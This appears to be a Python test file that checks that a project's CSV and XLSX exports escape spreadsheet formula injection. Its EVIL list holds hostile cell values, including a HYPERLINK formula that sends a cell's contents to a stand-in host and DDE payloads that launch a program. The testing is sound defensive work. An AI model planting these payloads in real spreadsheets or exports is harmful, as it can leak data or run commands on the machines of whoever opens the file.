"""Nothing that we write for a spreadsheet is taken for a formula, whoever typed it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from city.spreadsheets import Sheet, csv_bytes, xlsx_bytes
from city.tables import FORMULA, harmless, write_csv
from cli.export import _write_xlsx

EVIL = (
    "=HYPERLINK(\"http://elsewhere.example?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)",
)  # fmt: skip


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


TYPED = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


@given(st.one_of(TYPED, st.sampled_from(FORMULA).flatmap(lambda sign: TYPED.map(sign.__add__))))
def test_no_cell_begins_like_a_formula_unless_it_is_a_number(cell: str) -> None:
    made = harmless(cell)
    assert not made.startswith(FORMULA) or is_number(made)
    assert harmless(made) == made and made.endswith(cell.replace("\r\n", "\n").replace("\r", "\n"))
    assert rows_of(csv_bytes([[cell, "x"]]).decode("utf-8-sig")) == [[made, "x"]]


@pytest.mark.parametrize("number", ["-3", "+4.5", "-1e6", "12"])
def test_numbers_stay_numbers(number: str) -> None:
    assert harmless(number) == number


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_csv_holds_no_formula_in_cells_or_names_of_columns(tmp_path: Path) -> None:
    write_csv(tmp_path / "a.csv", EVIL, [EVIL])
    in_memory = csv_bytes([EVIL, EVIL]).decode("utf-8-sig")
    for text in ((tmp_path / "a.csv").read_bytes().decode("utf-8-sig"), in_memory):
        assert rows_of(text) == [[harmless(cell) for cell in EVIL]] * 2


def test_a_workbook_holds_no_formula(tmp_path: Path) -> None:
    (tmp_path / "a.xlsx").write_bytes(xlsx_bytes([Sheet("one", [EVIL, EVIL])]))
    _write_xlsx(tmp_path / "b.xlsx", EVIL, [list(EVIL)])
    for name in ("a.xlsx", "b.xlsx"):
        cells = [cell for row in openpyxl.load_workbook(tmp_path / name).worksheets[0] for cell in row]
        assert len(cells) == 2 * len(EVIL) and {cell.data_type for cell in cells} == {"s"}
